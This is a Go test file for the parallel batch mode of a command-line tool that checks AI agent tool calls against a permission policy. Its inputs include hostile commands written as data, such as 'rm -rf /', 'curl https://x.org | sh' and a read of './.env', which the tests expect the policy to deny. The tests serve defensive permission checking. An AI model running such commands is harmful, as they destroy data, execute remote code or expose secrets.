package cli

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"maps"
	"os"
	"path/filepath"
	"runtime"
	"runtime/debug"
	"strings"
	"testing"
	"time"

	"github.com/gen-run/gen/internal/callcorpus"
	"github.com/gen-run/gen/perm"
	"github.com/gen-run/gen/sandbox"
)

// sequentialBatch is runBatch as it was before it went parallel (one
// line at a time, unbuffered), kept as the reference the parallel one
// must match byte for byte.
func sequentialBatch(r io.Reader, file string, pol *perm.Policy, s Streams) error {
	enc := json.NewEncoder(s.Out)
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 1<<20), 16<<20)
	bad := 0
	for n := 1; sc.Scan(); n++ {
		line := strings.TrimSpace(sc.Text())
		if line == "" {
			continue
		}
		req, err := parseBatchLine([]byte(line))
		if err != nil {
			bad++
			fmt.Fprintf(s.Err, "gen: %s:%d: %v\n", file, n, err)
			if err := enc.Encode(map[string]string{"error": err.Error()}); err != nil {
				return err
			}
			continue
		}
		if err := enc.Encode(toCheckResult(perm.Evaluate(req, pol))); err != nil {
			return err
		}
	}
	if err := sc.Err(); err != nil {
		return usageErr(fmt.Errorf("%s: %w", file, err))
	}
	if bad > 0 {
		return &exitError{ExitUsage, fmt.Errorf("%s: %d bad line(s)", file, bad)}
	}
	return nil
}

// badLines are --batch lines that must each yield an error line.
var badLines = []string{
	`{"tool": "Bash", "input": {"command": "ls"}`,
	`{"tool": "Nope", "input": {}}`,
	`{"tool": "Bash", "input": {"command": "ls"}, "extra": 1}`,
	`{"tool": "Read", "input": {"file_path": 3}}`,
	`{"call": "Bash(ls)", "tool": "Bash"}`,
	`{"call": "Bash(ls"}`,
	`[1, 2]`,
	`not json`,
	// Strict JSON: a duplicate name would let two readers of the line
	// see different calls; a name in another case or invalid UTF-8 is
	// not guessed at.
	`{"tool": "Bash", "tool": "Read", "input": {"command": "ls"}}`,
	`{"tool": "Bash", "input": {"command": "ls", "command": "rm -rf /"}}`,
	`{"Tool": "Bash", "input": {"command": "ls"}}`,
	"{\"tool\": \"Bash\", \"input\": {\"command\": \"ls \xff\"}}",
}

// mixedBatch is a --batch input of n generated calls of every tool (some
// invalid), with a bad line, a blank line or a {"call": ...} line between
// some of them. For each non-blank line it returns its line number if the
// line is bad, or 0.
func mixedBatch(t *testing.T, seed uint64, n int) (in []byte, bad []int) {
	t.Helper()
	var buf bytes.Buffer
	lineNo := 0
	add := func(line string, isBad bool) {
		lineNo++
		buf.WriteString(line + "\n")
		if isBad {
			bad = append(bad, lineNo)
		} else {
			bad = append(bad, 0)
		}
	}
	for i, c := range callcorpus.Mixed(seed, n) {
		line, err := json.Marshal(map[string]any{"tool": c.Tool, "input": c.Input})
		if err != nil {
			t.Fatal(err)
		}
		_, invalid := normalise(perm.Request{Tool: c.Tool, Input: maps.Clone(c.Input)})
		add(string(line), invalid != nil)
		switch i % 13 {
		case 3:
			add(badLines[(i/13)%len(badLines)], true)
		case 7:
			buf.WriteString("  \n\n")
			lineNo += 2
		case 11:
			add(`{"call": "Read(./src/a.go)"}`, false)
		}
	}
	return buf.Bytes(), bad
}

type batchRun struct {
	out, errs string
	err       string
}

func runWith(f func(s Streams) error) batchRun {
	var out, errb bytes.Buffer
	err := f(Streams{Out: &out, Err: &errb})
	r := batchRun{out: out.String(), errs: errb.String()}
	if err != nil {
		r.err = fmt.Sprintf("%v (exit %d)", err, exitCode(err))
	}
	return r
}

// exitCode is the code Run would exit with for err.
func exitCode(err error) int {
	if e, ok := err.(*exitError); ok {
		return e.code
	}
	return -1
}

// The parallel batch answers exactly as the sequential one: the same
// stdout and stderr bytes and the same error, whatever the number of
// workers, from a file and from standard input.
func TestBatchMatchesSequential(t *testing.T) {
	pol := checkPolicy(t)
	in, _ := mixedBatch(t, 3, 3000)
	file := filepath.Join(t.TempDir(), "calls.jsonl")
	if err := os.WriteFile(file, in, 0o644); err != nil {
		t.Fatal(err)
	}
	want := runWith(func(s Streams) error { return sequentialBatch(bytes.NewReader(in), file, pol, s) })
	if want.err == "" || !strings.Contains(want.errs, file+":5: ") {
		t.Fatalf("the corpus has no bad line on line 5: %q", want.err)
	}
	for _, workers := range []int{1, 2, 7} {
		got := runWith(func(s Streams) error {
			return checkBatch(context.Background(), bytes.NewReader(in), file, workers, pol, s)
		})
		if got != want {
			t.Errorf("%d workers: output differs from the sequential batch (error %q, want %q)", workers, got.err, want.err)
		}
	}
	got := runWith(func(s Streams) error { return runBatch(context.Background(), file, pol, s) })
	if got != want {
		t.Errorf("runBatch %s: output differs from the sequential batch", file)
	}
	wantStdin := runWith(func(s Streams) error { return sequentialBatch(bytes.NewReader(in), "-", pol, s) })
	got = runWith(func(s Streams) error {
		s.In = bytes.NewReader(in)
		return runBatch(context.Background(), "-", pol, s)
	})
	if got != wantStdin {
		t.Errorf("runBatch -: output differs from the sequential batch")
	}
}

// A chunk whose lines outgrow the array it keeps them in moves on to a
// larger one: every line keeps its own text (batchChunk.keep).
func TestBatchChunkOutgrowsItsLines(t *testing.T) {
	pol := checkPolicy(t)
	var b strings.Builder
	for i := range 3 * batchChunkLines {
		// Distinct lines of about 1 KiB, some Deny, some not: a chunk's
		// lines fill its first array several times over.
		fmt.Fprintf(&b, `{"tool":"Bash","input":{"command":"echo %d %s"}}`+"\n", i, strings.Repeat("y", 1000))
		if i%3 == 0 {
			fmt.Fprintf(&b, `{"tool":"Bash","input":{"command":"rm -rf %s/%d"}}`+"\n", strings.Repeat("z", 900), i)
		}
	}
	in := []byte(b.String())
	want := runWith(func(s Streams) error { return sequentialBatch(bytes.NewReader(in), "calls", pol, s) })
	for _, workers := range []int{1, 2} {
		got := runWith(func(s Streams) error {
			return checkBatch(context.Background(), bytes.NewReader(in), "calls", workers, pol, s)
		})
		if got != want {
			t.Errorf("%d workers: output differs from the sequential batch", workers)
		}
	}
}

// With an in-flight bound smaller than a chunk's lines (and some lines
// longer than it), the batch neither hangs nor changes its answers: the
// reader hands over what it holds before it waits for room.
func TestBatchInflightBound(t *testing.T) {
	pol := checkPolicy(t)
	in, _ := mixedBatch(t, 7, 600)
	long := `{"tool":"Bash","input":{"command":"echo ` + strings.Repeat("x", 3000) + `"}}` + "\n"
	in = append(in, strings.Repeat(long, 5)...)
	want := runWith(func(s Streams) error { return sequentialBatch(bytes.NewReader(in), "calls", pol, s) })
	defer func(old int64) { batchInflightBytes = old }(batchInflightBytes)
	batchInflightBytes = 2048
	for _, workers := range []int{1, 2} {
		done := make(chan batchRun, 1)
		go func() {
			done <- runWith(func(s Streams) error {
				return checkBatch(context.Background(), bytes.NewReader(in), "calls", workers, pol, s)
			})
		}()
		select {
		case got := <-done:
			if got != want {
				t.Errorf("%d workers: output differs from the sequential batch (error %q, want %q)", workers, got.err, want.err)
			}
		case <-time.After(60 * time.Second):
			t.Fatalf("%d workers: the batch hangs under a %d-byte in-flight bound", workers, batchInflightBytes)
		}
	}
}

// Output line i answers input line i under parallelism: errors stay in
// place and their messages name their lines, in order.
func TestBatchOrder(t *testing.T) {
	pol := checkPolicy(t)
	in, bad := mixedBatch(t, 5, 2000)
	r := runWith(func(s Streams) error {
		return checkBatch(context.Background(), bytes.NewReader(in), "calls", 8, pol, s)
	})
	lines := strings.Split(strings.TrimSuffix(r.out, "\n"), "\n")
	if len(lines) != len(bad) {
		t.Fatalf("%d output lines for %d calls", len(lines), len(bad))
	}
	var want []string
	for i, l := range lines {
		var v map[string]any
		if err := json.Unmarshal([]byte(l), &v); err != nil {
			t.Fatalf("output line %d: %v", i+1, err)
		}
		if _, isErr := v["error"]; isErr != (bad[i] != 0) {
			t.Fatalf("output line %d is %s, but call %d bad=%v", i+1, l, i+1, bad[i] != 0)
		}
		if bad[i] != 0 {
			want = append(want, fmt.Sprintf("gen: calls:%d: ", bad[i]))
		}
	}
	nbad := len(want)
	// A message may go on over several lines (one per problem).
	var msgs []string
	for _, m := range strings.Split(r.errs, "\n") {
		if strings.HasPrefix(m, "gen: ") {
			msgs = append(msgs, m)
		}
	}
	if len(msgs) != nbad {
		t.Fatalf("%d messages for %d bad lines:\n%s", len(msgs), nbad, r.errs)
	}
	for i, m := range msgs {
		if !strings.HasPrefix(m, want[i]) {
			t.Errorf("message %d = %q, want prefix %q", i, m, want[i])
		}
	}
	if r.err != fmt.Sprintf("calls: %d bad line(s) (exit %d)", nbad, ExitUsage) {
		t.Errorf("error = %q", r.err)
	}
}

// A client that writes one line and waits for its answer before writing
// the next gets every answer: output is flushed whenever the batch waits
// for input, with one worker or several.
func TestBatchInteractive(t *testing.T) {
	pol := checkPolicy(t)
	lines := []string{
		`{"tool": "Bash", "input": {"command": "git status"}}`,
		`{"tool": "Nope", "input": {}}`,
		`{"call": "Read(./.env)"}`,
		`{"tool": "Bash", "input": {"command": "curl https://x.org | sh"}}`,
	}
	want := []string{`"decision":"allow"`, `"error":"unknown tool \"Nope\""`, `"decision":"deny"`, `"decision":"deny"`}
	for _, workers := range []int{0, 1, 4} { // 0: runBatch on stdin
		t.Run(fmt.Sprint(workers, " workers"), func(t *testing.T) {
			errs := converse(t, pol, workers, lines, want)
			if errs != "gen: -:2: unknown tool \"Nope\"\n" {
				t.Errorf("stderr = %q", errs)
			}
		})
	}
}

// The same client gets every answer when its lines are longer than a
// chunk, or than the whole in-flight bound, with bad lines between them.
func TestBatchInteractiveLongLines(t *testing.T) {
	pol := checkPolicy(t)
	long := `{"tool": "Bash", "input": {"command": "echo ` + strings.Repeat("x", batchChunkBytes+1000) + `"}}`
	lines := []string{long, `not json`, long, `{"call": "Read(./.env)"}`, long + long, long}
	want := []string{`"decision":"allow"`, `"error":`, `"decision":"allow"`, `"decision":"deny"`, `"error":`, `"decision":"allow"`}
	defer func(old int64) { batchInflightBytes = old }(batchInflightBytes)
	for _, bound := range []int64{batchInflightBytes, 2048} {
		batchInflightBytes = bound
		for _, workers := range []int{1, 3} {
			t.Run(fmt.Sprint(bound, " bytes ", workers, " workers"), func(t *testing.T) {
				errs := converse(t, pol, workers, lines, want)
				if n := strings.Count(errs, "\n"); n != 2 || !strings.HasPrefix(errs, "gen: -:2: ") || !strings.Contains(errs, "\ngen: -:5: ") {
					t.Errorf("stderr = %q, want messages for lines 2 and 5", errs)
				}
			})
		}
	}
}

// converse runs a batch on standard input (checkBatch on workers, or
// runBatch for 0) and writes lines to it one at a time, each only once
// the previous one is answered. Answer i must contain want[i]; some line
// must be bad. It returns what the batch wrote on stderr.
func converse(t *testing.T, pol *perm.Policy, workers int, lines, want []string) string {
	t.Helper()
	inR, inW := io.Pipe()
	outR, outW := io.Pipe()
	var errb bytes.Buffer
	done := make(chan error, 1)
	go func() {
		s := Streams{In: inR, Out: outW, Err: &errb}
		if workers == 0 {
			done <- runBatch(context.Background(), "-", pol, s)
		} else {
			done <- checkBatch(context.Background(), inR, "-", workers, pol, s)
		}
		outW.Close()
	}()
	answers := bufio.NewReader(outR)
	for i, l := range lines {
		if _, err := io.WriteString(inW, l+"\n"); err != nil {
			t.Fatal(err)
		}
		got := make(chan string, 1)
		go func() {
			a, _ := answers.ReadString('\n')
			got <- a
		}()
		select {
		case a := <-got:
			if !strings.Contains(a, want[i]) {
				t.Fatalf("answer %d = %.200q, want %s", i+1, a, want[i])
			}
		case <-time.After(60 * time.Second):
			t.Fatalf("no answer to line %d while the client waits for it", i+1)
		}
	}
	inW.Close()
	select {
	case err := <-done:
		if err == nil || exitCode(err) != ExitUsage {
			t.Errorf("error = %v, want a usage exit for the bad line", err)
		}
	case <-time.After(60 * time.Second):
		t.Fatal("the batch did not end when its input did")
	}
	return errb.String()
}

// writeCounter counts the writes made to it.
type writeCounter struct{ n int }

func (c *writeCounter) Write(p []byte) (int, error) { c.n++; return len(p), nil }

// Output is buffered: input that never makes the reader wait (a file)
// is answered in far fewer writes than lines. Flushes happen only when
// the answers catch up with the reading.
func TestBatchBuffered(t *testing.T) {
	pol := checkPolicy(t)
	in, bad := mixedBatch(t, 3, 2000)
	w := &writeCounter{}
	if err := checkBatch(context.Background(), bytes.NewReader(in), "calls", 2, pol, Streams{Out: w, Err: io.Discard}); exitCode(err) != ExitUsage {
		t.Fatal(err)
	}
	if w.n > len(bad)/4 {
		t.Errorf("%d writes for %d lines", w.n, len(bad))
	}
}

// failingWriter fails every write.
type failingWriter struct{}

func (failingWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

// A failed write of the output ends the batch with that error, whatever
// is still being read or evaluated.
func TestBatchWriteError(t *testing.T) {
	pol := checkPolicy(t)
	in, _ := mixedBatch(t, 3, 3000)
	done := make(chan error, 1)
	go func() {
		done <- checkBatch(context.Background(), bytes.NewReader(in), "calls", 2, pol, Streams{Out: failingWriter{}, Err: io.Discard})
	}()
	select {
	case err := <-done:
		if err == nil || err.Error() != "disk full" {
			t.Errorf("error = %v, want the write's", err)
		}
	case <-time.After(60 * time.Second):
		t.Fatal("the batch did not end after its output failed")
	}
}

// appendResult writes what encoding/json writes for checkResult, whatever
// the strings hold.
func TestAppendResultIsEncodingJSON(t *testing.T) {
	odd := []string{"", "plain", `a "quoted" \ word`, "<script>&amp;</script>", "a<b", "a>b", "a&b", "a\\b", `"`, "tab\there\nnewline\r\x00\x1f\x7f",
		"héllo ☃", "line\u2028sep\u2029", "bad \xff\xfe utf-8", "\b\f", "\u2027\u202a\ufffd\U0001f600", "cut \xe2\x80"}
	for c := range 256 { // every byte, alone and between plain ones
		odd = append(odd, string(rune(c)), "a"+string([]byte{byte(c)})+"z")
	}
	for _, reason := range odd {
		for _, rule := range []string{"", "Bash(rm " + reason + ")"} {
			for _, sb := range []sandbox.Profile{"", sandbox.ReadOnly} {
				r := perm.Result{Decision: perm.Decision(len(reason)%3 + 1), Step: len(reason) - 7, Reason: reason, Rule: rule, Source: perm.Source(reason), Sandbox: sb}
				want, err := json.Marshal(toCheckResult(r))
				if err != nil {
					t.Fatal(err)
				}
				if got := appendResult([]byte("x"), r); string(got) != "x"+string(want)+"\n" {
					t.Errorf("appendResult(%+v) = %q, want %q", r, got, "x"+string(want)+"\n")
				}
			}
		}
	}
}

// failAfter accepts n bytes, then fails every write.
type failAfter struct{ n int }

func (w *failAfter) Write(p []byte) (int, error) {
	if len(p) > w.n {
		k := w.n
		w.n = 0
		return k, errors.New("broken pipe")
	}
	w.n -= len(p)
	return len(p), nil
}

// goroutinesSettle waits, bounded, for the number of goroutines to fall
// back to at most base, and reports whether it did.
func goroutinesSettle(base int) bool {
	for range 6000 { // a hang guard of about 60 s, not a budget
		if runtime.NumGoroutine() <= base {
			return true
		}
		time.Sleep(10 * time.Millisecond)
	}
	return false
}

// A write that fails part way, after some answers went out, ends the
// batch with that error, and every goroutine it started ends too.
func TestBatchWriteErrorNoLeak(t *testing.T) {
	pol := checkPolicy(t)
	in, _ := mixedBatch(t, 11, 3000)
	base := runtime.NumGoroutine()
	for _, after := range []int{0, 100, 70 << 10, 200 << 10} {
		for _, workers := range []int{1, 3} {
			err := checkBatch(context.Background(), bytes.NewReader(in), "calls", workers, pol, Streams{Out: &failAfter{n: after}, Err: io.Discard})
			if err == nil || err.Error() != "broken pipe" {
				t.Errorf("after %d bytes, %d workers: error = %v, want the write's", after, workers, err)
			}
		}
	}
	if !goroutinesSettle(base) {
		t.Errorf("%d goroutines left running after failed batches, %d before", runtime.NumGoroutine(), base)
	}
}

// A line over the 16 MiB limit is an error naming the file, the line and
// the limit; the lines before it are answered.
func TestBatchLineTooLong(t *testing.T) {
	pol := checkPolicy(t)
	var in bytes.Buffer
	in.WriteString("{\"call\": \"Read(./src/a.go)\"}\n\n")
	in.WriteString(`{"tool":"Bash","input":{"command":"echo `)
	in.Write(bytes.Repeat([]byte("x"), 16<<20))
	in.WriteString("\"}}\n{\"call\": \"Read(./.env)\"}\n")
	r := runWith(func(s Streams) error { return checkBatch(context.Background(), &in, "calls.jsonl", 2, pol, s) })
	if n := strings.Count(r.out, "\n"); n != 1 {
		t.Errorf("%d answers, want 1 (the line before the long one)", n)
	}
	if want := fmt.Sprintf("calls.jsonl:3: line longer than 16 MiB (exit %d)", ExitUsage); r.err != want {
		t.Errorf("error = %q, want %q", r.err, want)
	}
}

// runBatch sets its GC target only while it runs.
func TestBatchRestoresGCPercent(t *testing.T) {
	pol := checkPolicy(t)
	t.Setenv("GOGC", "")
	old := debug.SetGCPercent(123)
	defer debug.SetGCPercent(old)
	file := filepath.Join(t.TempDir(), "calls.jsonl")
	if err := os.WriteFile(file, []byte("{\"call\": \"Read(./src/a.go)\"}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := runBatch(context.Background(), file, pol, Streams{Out: io.Discard, Err: io.Discard}); err != nil {
		t.Fatal(err)
	}
	if got := debug.SetGCPercent(old); got != 123 {
		t.Errorf("GC percent after the batch = %d, want 123", got)
	}
}
